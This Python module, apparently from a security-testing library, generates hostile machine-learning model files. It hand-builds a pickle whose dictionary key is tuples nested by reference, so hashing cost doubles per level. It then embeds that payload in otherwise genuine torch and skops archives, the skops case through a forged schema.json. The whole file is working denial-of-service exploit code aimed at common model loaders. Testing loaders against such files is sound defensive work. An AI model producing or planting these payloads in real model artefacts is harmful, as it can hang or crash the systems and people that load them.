"""How is a loader kept busy by a file that asks for nothing?"""

import json
import pickletools
from typing import Any

from foible import artefacts
from foible.attacks.supply_chain.traps import in_archive
from foible.attacks.supply_chain.values import opened
from foible.domains import Count
from foible.errors import BadInput

CODES = {code.name: code.code.encode("latin-1") for code in pickletools.opcodes}
"""The instructions of a pickle by name."""


def knot(*, depth: Count = 64) -> bytes:
    """A pickle that names nothing: pairs of pairs, as the key of a dictionary.

    Each pair holds the one before it twice, so the file grows by five bytes a level,
    and the time to hash the key doubles. Small depths are over at once.
    """
    _check(depth)
    keep, again = CODES["BINPUT"] + b"\0", CODES["BINGET"] + b"\0"
    pairs = (again + CODES["TUPLE2"] + keep) * depth
    key = CODES["EMPTY_TUPLE"] + keep + pairs
    entry = CODES["EMPTY_DICT"] + key + CODES["NONE"] + CODES["SETITEM"]
    return CODES["PROTO"] + b"\2" + entry + CODES["STOP"]


def knotted(artefact: bytes, *, form: artefacts.Format, depth: Count = 64) -> bytes:
    """A forest's file in any format, with a `knot` where there is room for one.

    Formats that hold only numbers have none: there a pickle goes by their name.
    """
    _check(depth)
    forest = opened(artefact)
    match form:
        case "torch":
            honest = artefacts.dump(forest, form="torch")
            return in_archive(honest, "data.pkl", lambda _: knot(depth=depth))
        case "skops":
            forest.note_ = {0}
            honest = artefacts.dump(forest, form="skops")
            return in_archive(honest, "schema.json", lambda f: _tied(f, depth))
        case _:
            return knot(depth=depth)


def _tied(schema: bytes, depth: int) -> bytes:
    """A skops schema whose note, a set, holds pairs of pairs by reference."""
    pair: dict[str, Any] = {"__class__": "tuple", "__module__": "builtins"}
    pair |= {"__loader__": "TupleNode", "content": [], "__id__": -1}
    held = pair
    for level in range(2, depth + 2):
        same = pair | {"__id__": held["__id__"]}
        held = pair | {"__id__": -level, "content": [held, same]}
    whole = json.loads(schema)
    whole["content"]["content"]["note_"]["content"] = [held]
    return json.dumps(whole).encode()


def _check(depth: int) -> None:
    if not 1 <= depth <= 1000:
        raise BadInput(f"got the depth {depth}; wanted 1 to 1000")
